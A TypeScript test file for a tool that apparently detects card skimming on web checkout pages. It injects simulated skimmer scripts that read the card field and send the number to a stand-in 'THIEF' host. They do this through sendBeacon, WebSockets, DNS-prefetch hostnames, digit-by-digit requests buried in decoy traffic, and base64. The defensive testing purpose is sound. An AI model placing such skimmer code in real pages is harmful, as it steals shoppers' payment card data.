import { deep } from '@tillwatch/testbed/depth'
import { describe, expect, it } from 'vitest'
import { together } from '../together.ts'
import { browser, shareBrowser } from './shared-browser.ts'
import { type Watched, watchPage } from './watch-page.ts'

shareBrowser()

const pan = `document.getElementById('card').value`
const onLeaving = (work: string) => `addEventListener('pagehide', function bye() { const pan = ${pan}; ${work} })`
/** Once, when the whole number stands in the field. */
const onCard = (work: string) => `{ let done = false; document.getElementById('card').addEventListener('input', async function () {
  const pan = this.value; if (done || pan.replace(/\\D/g, '').length < 16) return; done = true; ${work} }) }`
/** Where the card went, beside the shop's own form at the press of its button. */
const cards = ({ canary }: Watched) =>
  canary.sightings.filter(({ value, phase, url }) => value === 'card' && !(phase === 'press' && url.endsWith('/pay')))

describe('what leaves with the page', () => {
  it('is found though its address was used before, and though the browser tells nothing of it', async () => {
    const watched = await watchPage(browser, {
      skimmer: `navigator.sendBeacon('http://THIEF/c', 'hello'); ${onLeaving(`navigator.sendBeacon('http://THIEF/c', pan)`)}`,
    })
    expect(watched.atThief).toEqual(['GET /t.js ', 'POST /c hello'])
    expect(cards(watched)).toMatchObject([{ host: watched.thiefHost, where: 'body', requestId: null, phase: 'leave', blocked: true }])
  })

  it('is found in the name of a host over https and in a socket opened before that had sent much, and what https hides is named as not searched', async () => {
    const skimmers = [
      onLeaving(`navigator.sendBeacon('https://x' + pan + '.thief.localhost:8443/')`),
      `const ws = new WebSocket('ws://THIEF/w'); ws.onopen = () => ws.send('x'.repeat(100000)); ${onLeaving('ws.send(pan)')}`,
      // The browser tells nothing of what leaves for a host that was contacted before.
      `new Image().src = 'https://THIEF/hello.gif'; ${onLeaving(`navigator.sendBeacon('https://THIEF/c', pan)`)}`,
    ]
    const watched = await watchPage(browser, { skimmers })
    const [, socket, known] = watched.each.map(({ host }) => host)
    const found = cards(watched)
    expect(found.map(({ host }) => host).sort()).toEqual([socket, `x${watched.canary.card}.thief.localhost`].sort())
    expect(found.find(({ host }) => host.endsWith('.thief.localhost'))).toMatchObject({ where: 'dns', blocked: true })
    const unread = watched.canary.notSearched.map(({ requestId, gap }) => [requestId, gap.code])
    const hosts = [`x${watched.canary.card}.thief.localhost`, known?.split(':')[0]]
    expect(unread.sort()).toEqual(hosts.map((host) => [`guard ${host}`, 'encrypted-unreported']).sort())
  })

  it('is told once though both the browser and the guard saw it', async () => {
    const watched = await watchPage(browser, { skimmer: onCard(`navigator.sendBeacon('http://THIEF/c', pan)`) })
    expect(cards(watched)).toMatchObject([{ requestId: expect.any(String), where: 'body' }])
  })
})

describe('a name given early', () => {
  it('to more hosts than are read makes the result partial', async () => {
    const { capture } = await watchPage(browser, {
      shop: onCard(
        `for (let i = 0; i < 600; i++) { const k = document.createElement('link'); k.rel = 'dns-prefetch'; k.href = '//h' + i + '.shop.localhost'; document.head.append(k); k.remove() }`,
      ),
    })
    expect(capture.outcome.issues.map(({ cause }) => cause.code)).toContain('names-max')
  })

  const link = (rel: string) => `const k = document.createElement('link'); k.rel = '${rel}'; k.href = '//x' + pan + '.HOST/';`
  const early: Record<string, string> = {
    'removed at once': `${link('preconnect')} document.head.append(k); setTimeout(() => k.remove(), 10)`,
    'inside another element': `${link('dns-prefetch')} const box = document.createElement('div'); box.append(k); document.body.append(box)`,
    'that stays': `${link('dns-prefetch')} document.head.append(k)`,
    'given to a link that is there': `const k = document.createElement('link'); k.rel = 'dns-prefetch'; document.head.append(k);
      k.href = 'https://x' + pan + '.HOST/'; setTimeout(() => k.remove(), 10)`,
  }
  it.each(together(early))('%s is found, once', async (_names, links) => {
    const hostOf = (name: string) => `${name.replaceAll(' ', '-')}.localhost`
    const watched = await watchPage(browser, { skimmers: links.map(([name, work]) => onCard(work.replaceAll('HOST', hostOf(name)))) })
    const found = cards(watched).map(({ where, host }) => `${where} ${host}`)
    expect(found.sort()).toEqual(links.map(([name]) => `dns x${watched.canary.card}.${hostOf(name)}`).sort())
  })
})

describe('traffic made to be too much', () => {
  it('does not hide a card number that is sent digit by digit after hundreds of other messages', async () => {
    const skimmer = onCard(`const ask = (path) => fetch('http://THIEF' + path, { mode: 'no-cors' }).catch(() => 0)
      for (let i = 0; i < 420; i++) await ask('/j?a=' + i)
      for (const digit of pan) await ask('/k?x=' + digit)`)
    const watched = await watchPage(browser, { skimmer }, { timeoutMs: 180_000 })
    expect(cards(watched)).toMatchObject([{ where: 'reassembled', host: watched.thiefHost }])
  })

  it.runIf(deep)('ends: a text that old patterns read again and again is searched like any other', async () => {
    const watched = await watchPage(browser, {
      shop: onCard(`for (const body of [('"1":1' + ' '.repeat(40)).repeat(7) + 'x', '[' + '1'.repeat(60000) + 'x', '{' + '"\\\\\\\\"'.repeat(20000)])
        fetch('/log', { method: 'POST', body })`),
    })
    expect(watched.atShop.filter((line) => line.startsWith('POST /log'))).toHaveLength(3)
    expect(watched.canary.notSearched).toEqual([])
  })

  it('is named where it was not searched, makes the result partial, and hides no short message', async () => {
    const watched = await watchPage(browser, {
      shop: onCard(`for (let i = 0; i < 60; i++) {
        const bytes = crypto.getRandomValues(new Uint8Array(65535))
        let body = ''; for (let at = 0; at < bytes.length; at += 5000) body += btoa(String.fromCharCode(...bytes.subarray(at, at + 5000)))
        fetch('/replay', { method: 'POST', body })
      }`),
      skimmer: onCard(`navigator.sendBeacon('http://THIEF/c', btoa(pan))`),
    })
    expect(watched.canary.notSearched.length).toBeGreaterThan(0)
    expect(watched.capture.outcome).toMatchObject({ status: 'partial' })
    expect(watched.capture.outcome.issues.map(({ code }) => code)).toContain('behaviour-incomplete')
    expect(cards(watched)).toMatchObject([{ host: watched.thiefHost, encoding: ['base64'] }])
  })
})
